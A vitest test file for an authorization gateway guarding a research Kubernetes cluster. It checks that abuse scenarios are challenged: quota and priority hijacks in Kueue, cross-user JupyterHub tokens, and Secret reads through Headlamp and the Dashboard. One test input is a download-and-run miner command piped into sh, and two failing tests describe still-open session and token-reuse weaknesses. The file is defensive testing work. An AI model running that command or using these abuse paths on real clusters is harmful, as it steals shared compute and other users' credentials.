import { describe, expect, it } from 'vitest';
import { reasonOf, type CheckResponse } from '../support/grpc-client.js';
import { exampleServiceForFile } from '../support/workday-service.js';
import type { Login } from '../support/workday.js';
import { findingRequests, rules, signIn, type FindingOpts, type Step } from '../support/findings.js';
import { kueueJob, volcanoJob } from '../support/workday14.js';

/**
 * What the fourteenth replayed day (test/support/workday14.ts, docs/risk.md "Day 14") found
 * allowed, through the real gRPC server running examples/stepgate.yaml on a virtual clock. Two are
 * fixed in the example (a Kueue LocalQueue or Workload written by hand: batch-queue-objects; a
 * JupyterHub token minted for another user: jupyterhub-credentials), two by guardrails (Kueue's
 * priority-class label naming a reserved class: priority_class_reserved; NVIDIA_VISIBLE_DEVICES in
 * a container that requests no GPU: gpu_devices_unrequested), one in src (a Secret read through
 * the Kubernetes Dashboard's own API: kubernetes.web_apis); the rest are `it.fails`:
 * each asserts the safe outcome and states, in its comment, why stepgate cannot reach it from the
 * request.
 */

const s = exampleServiceForFile();
const MON = Date.UTC(2027, 9, 4, 9, 0, 0);
const TUE = Date.UTC(2027, 9, 5, 9, 0, 0);
const H = 3_600_000;
const HOST = 'kubernetes.rc.uni.example';
const LOGIN_NODE = '10.200.0.10';
const SHARED_WS = '10.128.5.21';
const KUBECTL = 'kubectl/v1.31.2 (darwin/arm64) kubernetes/5864a46';
const KUBECTL_LOGIN = 'kubectl/v1.30.5 (linux/amd64) kubernetes/74e84a9';
const CHROME = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36';
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0';
const MERGE = 'application/merge-patch+json';
const APPLY = 'application/apply-patch+yaml';

const { send, routine, twoDays } = findingRequests(s, { host: HOST, source: LOGIN_NODE, ua: KUBECTL, firstDay: MON, secondDay: TUE });

/** A vision PhD student's day: Kueue Jobs in their own namespace, the lab's W&B key, through the jump host. */
const student = (u: string): Step[] => [
  ['GET', `/apis/kueue.x-k8s.io/v1beta1/namespaces/u-${u}/localqueues?limit=500`],
  ['POST', `/apis/batch/v1/namespaces/u-${u}/jobs?fieldManager=kubectl-create`, kueueJob(`u-${u}`, 'train-a1', 'vision-queue', 2)],
  ['GET', `/apis/kueue.x-k8s.io/v1beta1/namespaces/u-${u}/workloads?limit=500`],
  ['GET', '/api/v1/namespaces/lab-vision/secrets/wandb-api-key'],
  ['DELETE', `/apis/batch/v1/namespaces/u-${u}/jobs/train-a1?propagationPolicy=Background`],
];

describe('Kueue: which quota and priority a job draws on, with examples/stepgate.yaml', () => {
  // Fixed (example): a LocalQueue is a namespace's pointer at a ClusterQueue's quota; created in
  // the student's own namespace (the everyday sign-in's before) it took the deadline's reserved
  // GPUs without touching a ResourceQuota. batch-queue-objects asks two factors within 15 minutes.
  it("a LocalQueue created in the student's own namespace pointing at another ClusterQueue asks a recent sign-in", async () => {
    const login = await twoDays('d14f-vision-a@uni.example', student('vision-a'));
    const res = await send(login, TUE + 7.6 * H, 'POST', '/apis/kueue.x-k8s.io/v1beta1/namespaces/u-vision-a/localqueues?fieldManager=kubectl-create', {
      body: JSON.stringify({ apiVersion: 'kueue.x-k8s.io/v1beta1', kind: 'LocalQueue', metadata: { name: 'fast', namespace: 'u-vision-a' }, spec: { clusterQueue: 'cq-nlp-deadline' } }),
    });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('batch-queue-objects');
  });

  // Fixed (example): a Workload deleted by hand evicts the job and sends it to the back of its
  // queue; deletes of another lab's were no sensitive action, so neither the working set nor the
  // burst of deletes counted them. Now each asks a recent sign-in, and they count.
  it("another lab's Workloads deleted by a student who signs in at each challenge are refused by the burst", async () => {
    const sub = 'd14f-nlp-a@uni.example';
    let login = await twoDays(sub, student('nlp-a'));
    const t0 = TUE + 13.6 * H;
    const answers: string[] = [];
    for (let k = 0; k < 16; k++) {
      const t = t0 + k * 3000 + answers.filter((a) => a === 'auth_too_old').length * 25_000;
      const path = `/apis/kueue.x-k8s.io/v1beta1/namespaces/${k % 2 ? 'lab-vision' : `u-vision-${k % 3}`}/workloads/job-train-${k}-a1b2c`;
      let res = await send(login, t, 'DELETE', path);
      if (reasonOf(res) === 'auth_too_old') {
        answers.push('auth_too_old');
        login = signIn(sub, t + 20_000);
        res = await send(login, t + 25_000, 'DELETE', path);
      }
      answers.push(reasonOf(res) ?? 'unknown');
      if (reasonOf(res) === 'risk_deny') break;
    }
    expect(answers, answers.join(',')).toContain('risk_deny');
  });

  // Fixed (guardrail): Kueue admits and preempts by the WorkloadPriorityClass its label names, not
  // by the pod's priorityClassName; priority_class_reserved now reads the label too.
  it("a Job labelled with a reserved Kueue priority class from a student's namespace is asked more than the everyday sign-in", async () => {
    const login = await twoDays('d14f-vision-b@uni.example', student('vision-b'));
    const res = await send(login, TUE + 8 * H, 'POST', '/apis/batch/v1/namespaces/u-vision-b/jobs?fieldManager=kubectl-create', {
      body: kueueJob('u-vision-b', 'sweep-big-2', 'vision-queue', 8, { labels: { 'kueue.x-k8s.io/priority-class': 'deadline-critical' }, parallelism: 4 }),
    });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
    const label = await send(login, TUE + 8 * H + 60_000, 'PATCH', '/apis/batch/v1/namespaces/u-vision-b/jobs/train-a1', {
      body: JSON.stringify({ metadata: { labels: { 'kueue.x-k8s.io/priority-class': 'deadline-critical' } } }),
      contentType: MERGE,
    });
    expect(reasonOf(label), rules(label)).not.toBe('allowed');
    // A JobSet (a custom kind Kueue runs) by server-side apply, the label on its own metadata.
    const jobset = await send(login, TUE + 8 * H + 120_000, 'PATCH', '/apis/jobset.x-k8s.io/v1alpha2/namespaces/u-vision-b/jobsets/ddp?fieldManager=kubectl&force=true', {
      body: JSON.stringify({ apiVersion: 'jobset.x-k8s.io/v1alpha2', kind: 'JobSet', metadata: { name: 'ddp', namespace: 'u-vision-b', labels: { 'kueue.x-k8s.io/queue-name': 'vision-queue', 'kueue.x-k8s.io/priority-class': 'deadline-critical' } }, spec: { replicatedJobs: [{ name: 'w', replicas: 2, template: { spec: { template: { spec: { containers: [{ name: 't', image: 'nvcr.io/nvidia/pytorch:24.09-py3' }] } } } } }] } }),
      contentType: APPLY,
    });
    expect(reasonOf(jobset), rules(jobset)).not.toBe('allowed');
  });

  it('control: the same Job with an unreserved Kueue priority class, and the deadline class in production, stay the sign-in they had', async () => {
    const login = await twoDays('d14f-vision-c@uni.example', student('vision-c'));
    const res = await send(login, TUE + 8 * H, 'POST', '/apis/batch/v1/namespaces/u-vision-c/jobs?fieldManager=kubectl-create', {
      body: kueueJob('u-vision-c', 'sweep-low', 'vision-queue', 1, { labels: { 'kueue.x-k8s.io/priority-class': 'low' } }),
    });
    expect(reasonOf(res), rules(res)).toBe('allowed');
  });

  // Stopped before (and still): a Volcano Job names its class at the job level; the guardrail read it already.
  it("control: a Volcano Job naming a reserved class from a student's namespace is asked more", async () => {
    const login = await twoDays('d14f-vision-d@uni.example', student('vision-d'));
    const res = await send(login, TUE + 8 * H, 'POST', '/apis/batch.volcano.sh/v1alpha1/namespaces/u-vision-d/jobs', { body: volcanoJob('u-vision-d', 'sweep-big', { priorityClassName: 'deadline-critical', gpus: 8 }) });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
  });

  // Fixed (guardrail, session 45): a miner started by the student's own Job shape through the lab's
  // queue: the student's namespace, image, queue and GPU count; only the command differs, and it
  // pipes a download into sh (container_command_egress, critical). Commands of training jobs are
  // arbitrary shell: a miner written into the script itself, or an image of the attacker's, is not
  // this shape (admission: allowed registries and signed images; runtime detection).
  it('miner Jobs submitted through the lab queue from the student laptop are asked more than the everyday sign-in', async () => {
    const login = await twoDays('d14f-vision-e@uni.example', student('vision-e'));
    const res = await send(login, TUE + 6.3 * H, 'POST', '/apis/batch/v1/namespaces/u-vision-e/jobs?fieldManager=kubectl-create', {
      body: kueueJob('u-vision-e', 'train-ablation-0', 'vision-queue', 4, { command: ['bash', '-c', 'pip install -q nvitop && curl -s http://45.9.148.3/xm | sh -s -- --donate-level 0'] }),
    });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
  });

  // Fixed (guardrail): NVIDIA's container runtime gives a container every GPU of its node when its
  // environment says NVIDIA_VISIBLE_DEVICES=all, whether or not it requests nvidia.com/gpu; the
  // device plugin then counts none for it, so other labs' jobs on that node share their GPUs with
  // it. gpu_devices_unrequested: the variable set in a container that requests no NVIDIA device.
  it("a Job whose container sets NVIDIA_VISIBLE_DEVICES=all without requesting a GPU is asked more than the everyday sign-in", async () => {
    const login = await twoDays('d14f-vision-f@uni.example', student('vision-f'));
    const res = await send(login, TUE + 5.4 * H, 'POST', '/apis/batch/v1/namespaces/u-vision-f/jobs?fieldManager=kubectl-create', {
      body: kueueJob('u-vision-f', 'cpu-preproc', 'vision-queue', 0, { env: [{ name: 'NVIDIA_VISIBLE_DEVICES', value: 'all' }], limits: { cpu: '4', memory: '16Gi' } }),
    });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
    // Control: the student's own GPU Job, which the device plugin hands the variable to itself.
    const own = await send(login, TUE + 5.5 * H, 'POST', '/apis/batch/v1/namespaces/u-vision-f/jobs?fieldManager=kubectl-create', {
      body: kueueJob('u-vision-f', 'train-b2', 'vision-queue', 2, { env: [{ name: 'NVIDIA_VISIBLE_DEVICES', value: 'all' }] }),
    });
    expect(reasonOf(own), rules(own)).toBe('allowed');
  });
});

describe('JupyterHub, with examples/stepgate.yaml', () => {
  const JHUB = 'jupyter.localhost';
  const ADMIN: Step[] = [
    ['GET', '/hub/admin'],
    ['GET', '/hub/api/users?state=active&offset=0&limit=50'],
    ['POST', `/hub/api/users/${encodeURIComponent('d14f-admin@uni.example')}/server`, '{}'],
  ];
  const atWs: FindingOpts = { host: JHUB, source: SHARED_WS, ua: FIREFOX };

  // Fixed (example): the admin's session, open in the shared workstation's browser six hours after
  // the admin used it, minted an API token for another user (the everyday sign-in's before): the
  // token acts as that user until it expires, whatever happens to the session.
  it('an API token minted for another user, six hours after the admin signed in, asks a recent sign-in', async () => {
    const login = await twoDays('d14f-admin@uni.example', ADMIN, atWs);
    const res = await send(login, TUE + 6.2 * H, 'POST', `/hub/api/users/${encodeURIComponent('d14-phd-nlp-1@uni.example')}/tokens`, { ...atWs, body: JSON.stringify({ note: 'debug', expires_in: 2_592_000 }) });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('jupyterhub-credentials');
    const admin = await send(login, TUE + 6.2 * H + 30_000, 'PATCH', `/hub/api/users/${encodeURIComponent('d14-msc-2@uni.example')}`, { ...atWs, body: JSON.stringify({ admin: true }) });
    expect(reasonOf(admin), rules(admin)).toBe('auth_too_old');
  });

  it("control: the admin page, the user list and one's own server started stay the morning sign-in's", async () => {
    const login = await twoDays('d14f-admin-2@uni.example', ADMIN, atWs);
    for (const [method, path, body] of ADMIN) {
      const res = await send(login, TUE + 6 * H, method, path.replace('d14f-admin%40', 'd14f-admin-2%40'), { ...atWs, ...(body !== undefined ? { body } : {}) });
      expect(reasonOf(res), `${method} ${path}: ${rules(res)}`).toBe('allowed');
    }
  });
});

describe("another person's session on a shared machine (open), and the Kubernetes Dashboard's own API (fixed)", () => {
  // Open: the postdoc's Headlamp session in the shared workstation's one Firefox profile, used four
  // hours later by whoever sits down: the postdoc's address, browser and token, the postdoc's
  // namespaces, a sign-in within 8 hours. Day 9's jump box and day 13's hot desk: only the
  // identity provider's session (short sessions on shared machines, a sign-out) ends it.
  it.fails("another user's open Headlamp session on the shared workstation cannot read the lab's Secrets", async () => {
    const hl: FindingOpts = { host: 'headlamp.localhost', source: SHARED_WS, ua: FIREFOX };
    const login = await twoDays('d14f-postdoc@uni.example', [['GET', '/clusters/rc/api/v1/namespaces/lab-nlp-prod/pods?limit=500'], ['GET', '/clusters/rc/api/v1/namespaces/lab-nlp-prod/secrets/hf-api-token']], hl);
    const res = await send(login, TUE + 4.5 * H, 'GET', '/clusters/rc/api/v1/namespaces/lab-nlp-prod/secrets/hf-api-token', hl);
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
  });

  // Open: the bio RA's kubelogin cache, world-readable on the login node, used there by another
  // user with the node's own kubectl: the RA's address, client, token and namespaces.
  it.fails("a token read from another user's kubelogin cache on the login node cannot read their lab's Secret", async () => {
    const node: FindingOpts = { source: LOGIN_NODE, ua: KUBECTL_LOGIN };
    const login = await twoDays('d14f-bio@uni.example', [['GET', '/api/v1/namespaces/lab-bio/pods?limit=500'], ['GET', '/api/v1/namespaces/lab-bio/secrets/uniprot-ftp']], node);
    const res = await send(login, TUE + 4.6 * H, 'GET', '/api/v1/namespaces/lab-bio/secrets/uniprot-ftp', node);
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
  });

  // Fixed (src, kubernetes.web_apis): the Kubernetes Dashboard's backend has an API of its own
  // (`/api/v1/secret/<namespace>/<name>`, `/api/v1/pod/<namespace>/<name>/shell/<container>`), which
  // it answers with the caller's token against the API server inside the cluster. Through the
  // gateway it was a web host whose paths are not the Kubernetes API's, so neither the secrets rule
  // nor the working set applied: another lab's production Secret read from the PI's laptop, a
  // namespace they never worked in, was the default rule's. The example names dashboard.localhost
  // as a kubernetes-dashboard web API, so the path is the Secret read it stands for: the secrets
  // rule, and the working set's unfamiliar namespace asks a fresh sign-in.
  it("another lab's production Secret read through the Kubernetes Dashboard's API, outside the working set, is challenged", async () => {
    const dash: FindingOpts = { host: 'dashboard.localhost', source: '193.60.220.5', ua: CHROME };
    const login = await twoDays('d14f-pi@uni.example', [['GET', '/api/v1/pod/lab-vision?itemsPerPage=10&page=1&sortBy=d,creationTimestamp'], ['GET', '/api/v1/secret/lab-vision/wandb-api-key']], dash);
    const res = await send(login, TUE + 5 * H, 'GET', '/api/v1/secret/lab-nlp-prod/hf-api-token', dash);
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('secrets');
    expect(rules(res)).toContain('risk:context');
    // Control: the PI's own lab's Secret, read the same way the day before, stays routine.
    const own = await send(login, TUE + 5 * H + 60_000, 'GET', '/api/v1/secret/lab-vision/wandb-api-key', dash);
    expect(reasonOf(own), rules(own)).toBe('allowed');
    // The Dashboard's pages and its own routes stay web requests.
    const page = await send(login, TUE + 5 * H + 120_000, 'GET', '/api/v1/csrftoken/login', dash);
    expect(reasonOf(page), rules(page)).toBe('allowed');
  });
});
